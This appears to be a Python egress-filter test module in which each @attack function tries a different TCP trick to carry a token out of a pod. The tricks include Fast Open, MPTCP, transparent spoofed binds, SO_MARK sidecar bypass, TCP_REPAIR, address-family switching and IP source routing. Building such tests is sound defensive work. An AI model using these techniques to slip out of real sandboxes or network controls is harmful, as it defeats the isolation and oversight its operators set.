"""TCP, in every way to begin a connection."""

TCP_FASTOPEN_CONNECT, TCP_REPAIR, TCP_REPAIR_WINDOW = 30, 19, 29
TCP_REPAIR_OFF_NO_PROBE = -1  # a probe would be answered by a reset, before the token is sent
IPV6_ADDRFORM, IPV6_RTHDR, IPV6_TRANSPARENT = 1, 57, 75
IP_TRANSPARENT = 19


@attack
def connect_v4():
    return tell(tcp(), V4)


@attack
def connect_v6():
    return tell(tcp(socket.AF_INET6), V6)


@attack
def connect_mapped():
    return tell(tcp(socket.AF_INET6), MAPPED)


@attack
def connect_nonblocking():
    s = tcp()
    s.setblocking(False)
    began = s.connect_ex(V4)
    if began != errno.EINPROGRESS:
        raise OSError(began, "")
    s.settimeout(PATIENCE)
    return tell(s)


def fast_open():
    """Data in the SYN, without the cookie of an earlier connection."""
    settings(ipv4__tcp_fastopen="5")


@attack
def fastopen_v4():
    fast_open()
    s = tcp()
    s.sendto(TOKEN, socket.MSG_FASTOPEN, V4)
    return heard(s)


@attack
def fastopen_v6():
    fast_open()
    s = tcp(socket.AF_INET6)
    s.sendto(TOKEN, socket.MSG_FASTOPEN, V6)
    return heard(s)


@attack
def fastopen_connect():
    fast_open()
    s = tcp()
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    return tell(s, V4)


@attack
def mptcp_v4():
    return tell(tcp(protocol=IPPROTO_MPTCP), V4)


@attack
def mptcp_v6():
    return tell(tcp(socket.AF_INET6, IPPROTO_MPTCP), V6)


@attack
def mptcp_fastopen():
    fast_open()
    s = tcp(protocol=IPPROTO_MPTCP)
    s.sendto(TOKEN, socket.MSG_FASTOPEN, V4)
    return heard(s)


@attack
def bind_address():
    s = tcp()
    s.bind((POD_V4, 0))
    return tell(s, V4)


@attack
def bind_port():
    s = tcp(socket.AF_INET6)
    s.bind(("::", PORT))
    return tell(s, V6)


@attack
def transparent():
    """From an address that is not the pod's: the answer goes astray, the SYN does not."""
    s = tcp()
    s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    s.bind((POD_V4.rsplit(".", 1)[0] + ".77", 0))
    return tell(s, V4)


@attack
def transparent_own():
    s = tcp(socket.AF_INET6)
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    s.bind((POD_V6, 0))
    return tell(s, V6)


@attack
def mark():
    """The mark that exempts the sidecars of meshes."""
    s = tcp()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1337)
    return tell(s, V4)


@attack
def bind_to_device():
    s = tcp()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
    return tell(s, V4)


@attack
def reconnect():
    """A socket that was allowed somewhere, disconnected, and connected again."""
    listener = local_listener()
    s = tcp()
    s.connect(listener.getsockname())
    disconnect(s)
    return tell(s, V4)


@attack
def change_family():
    """An IPv6 socket that becomes an IPv4 socket on the way."""
    listener = local_listener()
    s = tcp(socket.AF_INET6)
    s.connect(("::ffff:127.0.0.1", listener.getsockname()[1]))
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_ADDRFORM, socket.AF_INET)
    disconnect(s)
    s.setblocking(True)
    check(libc.connect(s.fileno(), sockaddr(V4), 16))
    s.settimeout(PATIENCE)
    return tell(s)


@attack
def repair():
    """A socket in repair mode is connected without a handshake, with a window as wide as it says."""
    s = tcp()
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    s.connect(V4)
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_WINDOW, struct.pack("5I", 0, 1000, 1000, 1000, 0))
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_OFF_NO_PROBE)
    return tell(s)


def source_route(*hops):
    """Loose source routing: to the first hop, whatever destination the socket has."""
    addresses = b"".join(map(socket.inet_aton, hops))
    return b"\x01" + struct.pack("BBB", 131, 3 + len(addresses), 4) + addresses


@attack
def source_route_v4():
    """The packet's destination is the route's first hop, not the one that connect() was given."""
    settings(ipv4__conf__all__accept_source_route="1")
    s = tcp()
    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, source_route(SINK))
    return tell(s, V4)


@attack
def source_route_v6():
    """As with IPv4, by a segment routing header (RFC 8754)."""
    segments = [socket.inet_pton(socket.AF_INET6, a) for a in ("::", SINK_V6)]
    header = struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + b"".join(segments)
    s = tcp(socket.AF_INET6)
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
    return tell(s, V6)


@attack
def own_listener():
    """The gateway's listener in the pod, if there is one, without having been sent there."""
    with open("/proc/net/tcp") as file:
        rows = [line.split() for line in file][1:]
    listening = [int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"]
    if not listening:
        return "no listener"
    return tell(tcp(), ("127.0.0.1", listening[0]))


@attack
def inbound():
    """A connection from the internet, which may be answered; its helper connects."""
    s = tcp()
    s.bind((POD_V4, PORT))
    s.listen()
    connection, _ = s.accept()
    connection.settimeout(PATIENCE)
    connection.sendall(TOKEN)
    return heard(connection)


@attack
def call_the_pod():
    """Helps inbound, from the internet: connects, and says what it hears."""
    for _ in range(1000):
        s = tcp()
        if s.connect_ex((POD_V4, PORT)) == 0:
            s.sendall(s.recv(len(TOKEN)))
            return "called"
        threading.Event().wait(0.005)
    return "nobody listened"
